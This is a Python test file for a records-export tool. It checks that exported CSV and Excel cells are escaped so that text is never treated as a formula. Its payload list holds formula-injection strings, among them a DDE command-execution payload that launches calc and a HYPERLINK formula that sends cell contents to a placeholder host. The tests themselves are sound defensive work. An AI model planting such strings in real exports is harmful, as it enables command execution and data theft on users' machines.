"""What goes out of the index: no text becomes a formula, and nothing of it is lost."""

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from records_sync.exporting import cells, statistics_tables, write_csv, write_tables, write_xlsx
from records_sync.index.query import Entry
from records_sync.index.statistics import Statistics
from records_sync.model import UnitSummary
from tests import records_files_kit as kit

PAYLOADS = (
    '=HYPERLINK("http://x.example/"&A1,"甲")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
)
HARMLESS = ("关于机构编制的通知", "１－２", "a=b", "<script>alert(1)</script>", "'甲", " =1")


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", PAYLOADS)
def test_h14_a_formula_is_text_in_a_csv_file(tmp_path: Path, text: str) -> None:
    assert write_csv(tmp_path / "a.csv", [("甲", text)], ("题名", "备注")) == 1
    assert read_back(tmp_path / "a.csv") == [["题名", "备注"], ["甲", f"'{text}"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_h14_other_text_is_written_as_it_is(tmp_path: Path, text: str) -> None:
    write_csv(tmp_path / "a.csv", [(text,)], ("题名",))
    assert read_back(tmp_path / "a.csv")[1] == [text]


@pytest.mark.parametrize("title", ["=1+1公式", "'=1", "''＋1", "'甲", "-", "@甲", "甲'=1"])
def test_what_was_exported_comes_back_as_it_was(tmp_path: Path, title: str) -> None:
    [before] = kit.records_of(
        kit.write_csv(tmp_path / "a.csv", [("档号", "题名"), ("J1-1", title)])
    )
    assert before.title == title
    write_csv(tmp_path / "out.csv", [cells(Entry(number=1, source="main", record=before))])
    assert kit.records_of(tmp_path / "out.csv") == [before]


def test_h14_a_formula_is_text_in_a_workbook(tmp_path: Path) -> None:
    rows = [(text, "=1+1") for text in PAYLOADS]
    assert write_xlsx(tmp_path / "a.xlsx", rows, ("题名", "备注")) == len(rows)
    write_tables(tmp_path / "b.xlsx", [("单位", [("单位", "件数"), ("=1+1", "12")])])
    for name in ("a.xlsx", "b.xlsx"):
        book = load_workbook(tmp_path / name)
        cells = [cell for row in book.worksheets[0].iter_rows(min_row=2) for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert {cell.value for cell in cells if cell.data_type == "n"} <= {12}


def test_the_statistics_hold_the_figures_of_each_unit_and_gaps_stay_gaps(tmp_path: Path) -> None:
    counts = Statistics(
        total=3,
        by_year=((2020, 3),),
        by_retention=(),
        by_carrier=(),
        by_unit=(("市档案馆", 3),),
        growth=(),
        units=(UnitSummary(code="1", name="市档案馆", posts=12, staff=11),),
    )
    write_tables(tmp_path / "a.xlsx", statistics_tables(counts, "zh"))
    sheet = load_workbook(tmp_path / "a.xlsx")["机构编制"]
    assert [tuple(cell.value for cell in row) for row in sheet.iter_rows()] == [
        ("机构", "编制", "领导职数", "实有人数", "内设机构"),
        ("市档案馆", 12, None, 11, None),
    ]
